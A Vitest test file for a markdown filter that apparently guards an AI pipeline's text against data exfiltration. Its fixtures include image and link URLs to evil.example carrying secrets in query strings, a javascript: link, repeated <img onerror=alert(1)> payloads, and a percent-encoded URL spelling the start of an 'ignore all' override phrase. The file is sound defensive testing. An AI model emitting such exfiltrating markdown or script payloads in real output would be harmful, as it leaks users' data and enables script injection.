import { describe, expect, it } from 'vitest';
import { markdown, REMOVED_URL } from '../../src/filters/markdown.js';
import type { Segment, Stage, StageResult } from '../../src/pipeline/types.js';
import { isSieveError } from '../../src/errors.js';

const signal = new AbortController().signal;
const segment = (text: string): Segment => ({ text, view: text, role: 'user' });
const run = (stage: Stage, text: string) => stage.run(segment(text), { signal }) as StageResult;
const codes = (result: StageResult) => result.findings.map((finding) => finding.code);

describe('markdown stage', () => {
  const stage = markdown();

  it.each([
    ['an ordinary link', 'see [docs](https://example.com/docs) for more'],
    ['a relative image (the app\'s own origin)', '![diagram](images/flow.png)'],
    ['an image in a code span', 'write `![x](https://evil.example/?q=1)` to embed'],
    ['an image in a fenced block', '```md\n![x](https://evil.example/?q=secret)\n```'],
    ['an unused definition without data', '[home]: https://example.com/'],
    ['brackets that are no link', 'array[0](1) and a[i]: b'],
    ['an e-mail autolink', 'mail <jane@example.com>'],
  ])('passes %s through byte-identical', (_name, text) => {
    expect(run(stage, text)).toEqual({ action: 'pass', findings: [] });
  });

  it.each([
    ['an inline image with data in the query', 'x ![logo](https://evil.example/p.png?q=SECRET) y', `x ![logo](${REMOVED_URL}) y`, 'markdown_image_exfiltration'],
    ['an image to another host, even without data', '![chart](https://cdn.example/c.png)', `![chart](${REMOVED_URL})`, 'markdown_image_exfiltration'],
    ['a reference-style image, at its definition', 'Show ![a][r]\n\n[r]: https://evil.example/x?d=1', `Show ![a][r]\n\n[r]: ${REMOVED_URL}`, 'markdown_image_exfiltration'],
    ['a collapsed reference image', '![R][]\n\n[r]: <https://evil.example/x.png>', `![R][]\n\n[r]: ${REMOVED_URL}`, 'markdown_image_exfiltration'],
    ['an HTML <img src>', 'a <img src="https://evil.example/?q=1" alt=x> b', `a <img src="${REMOVED_URL}" alt=x> b`, 'markdown_image_exfiltration'],
    ['a link with a query string', '[click](https://evil.example/?q=data)', `[click](${REMOVED_URL})`, 'markdown_link_exfiltration'],
    ['a link with a long encoded path segment', '[x](https://evil.example/c/aGVsbG8gd29ybGQgdGhpcyBpcyBhIHNlY3JldCAxMjM)', `[x](${REMOVED_URL})`, 'markdown_link_exfiltration'],
    ['a link with a percent-encoded sentence', '[x](https://evil.example/%69%67%6e%6f%72%65%20%61%6c%6c%20%70)', `[x](${REMOVED_URL})`, 'markdown_link_exfiltration'],
    ['a link with credentials', '[x](https://user:pass@evil.example/)', `[x](${REMOVED_URL})`, 'markdown_link_exfiltration'],
    ['an autolink with a query', 'go <https://evil.example/?q=1>', `go <${REMOVED_URL}>`, 'markdown_link_exfiltration'],
    ['a protocol-relative image', '![a](//evil.example/a.png)', `![a](${REMOVED_URL})`, 'markdown_image_exfiltration'],
    ['a javascript: link', '[c](javascript:alert(1))', `[c](${REMOVED_URL})`, 'markdown_dangerous_url'],
    ['a destination in angle brackets, keeping its title', '[a](<https://evil.example/a b?x=1> "t")', `[a](${REMOVED_URL} "t")`, 'markdown_link_exfiltration'],
  ])('neutralises %s', (_name, input, output, code) => {
    const result = run(stage, input);
    expect(result.action).toBe('modify');
    expect(result.text).toBe(output);
    expect(codes(result)).toEqual([code]);
  });

  it('lets images and data-carrying links to allowed hosts through', () => {
    const allowed = markdown({ allowedHosts: ['example.com', '*.trusted.example'] });
    const text = '![a](https://example.com/a.png?v=2) [b](https://cdn.trusted.example/?q=1)';
    expect(run(allowed, text).action).toBe('pass');
    expect(run(allowed, '![a](https://trusted.example/a.png)').action).toBe('modify');
  });

  it('neutralises only data-carrying images with images: data-carrying', () => {
    const lenient = markdown({ images: 'data-carrying' });
    expect(run(lenient, '![a](https://cdn.example/a.png)').action).toBe('pass');
    expect(run(lenient, '![a](https://cdn.example/a.png?u=me)').action).toBe('modify');
  });

  it('counts each neutralised URL and never quotes it', () => {
    const result = run(stage, '![a](https://evil.example/?q=SECRET1) ![b](https://evil.example/?q=SECRET2) [c](https://evil.example/?q=SECRET3)');
    expect(result.findings).toEqual([
      { code: 'markdown_image_exfiltration', message: 'Neutralised 2 image URL(s) to hosts outside allowedHosts.' },
      { code: 'markdown_link_exfiltration', message: 'Neutralised 1 link URL(s) that carry data to hosts outside allowedHosts.' },
    ]);
    expect(JSON.stringify(result)).not.toContain('SECRET');
  });

  it('is idempotent', () => {
    const once = run(stage, '![a](https://evil.example/?q=1)\n\n[r]: https://evil.example/?d=2\n\n[x][r]');
    expect(run(stage, once.text!).action).toBe('pass');
  });

  it('blocks instead with action: block', () => {
    expect(run(markdown({ action: 'block' }), '![a](https://evil.example/?q=1)').action).toBe('block');
  });
});

describe('markdown factory', () => {
  it.each([[undefined], [{}], [{ allowedHosts: undefined }]])('builds with %j', (options) => {
    const stage = markdown(options);
    expect(stage).toMatchObject({ name: 'markdown', kind: 'filter' });
    expect(run(stage, '![a](https://evil.example/?q=1)').text).toBe(`![a](${REMOVED_URL})`);
  });

  it.each([
    [{ allowedHosts: ['https://example.com'] }, 'allowedHosts[0]'],
    [{ images: 'none' }, 'images'],
    [{ action: 'redact' }, 'action'],
    [{ allowHosts: [] }, 'allowHosts'],
  ])('rejects %j naming %s', (options, path) => {
    try {
      markdown(options as never);
      expect.unreachable();
    } catch (error) {
      expect(isSieveError(error, 'ERR_SIEVE_CONFIG')).toBe(true);
      expect((error as Error).message).toContain(`✖ ${path}`);
    }
  });
});

describe('markdown on hostile raw HTML', () => {
  const hostile = {
    'images with handlers': '<img src=x onerror=alert(1)>'.repeat(4000),
    'unclosed tags': '<div><span><b>'.repeat(7000),
    'many distinct attributes': `<img ${Array.from({ length: 14000 }, (_, i) => `a${i}=1`).join(' ')}>`,
  };

  it.each(Object.entries(hostile))('answers 100 KB of %s quickly and blocks it as too complex', (_name, text) => {
    const started = performance.now();
    const result = markdown().run({ text, view: text, role: 'user' }, { signal: new AbortController().signal });
    // A safety net against seconds of parsing, not a benchmark.
    expect(performance.now() - started).toBeLessThan(1000);
    expect(result).toMatchObject({ action: 'block', findings: [{ code: 'markdown_too_complex' }] });
  });

  it('still neutralises an HTML image in ordinary amounts of markup', () => {
    const text = 'See <img src="https://evil.example/p.png?d=secret"> here.';
    const result = markdown({ maxMarkupNodes: 50 }).run({ text, view: text, role: 'user' }, { signal: new AbortController().signal });
    expect(result).toMatchObject({ action: 'modify', findings: [{ code: 'markdown_image_exfiltration' }] });
  });
});
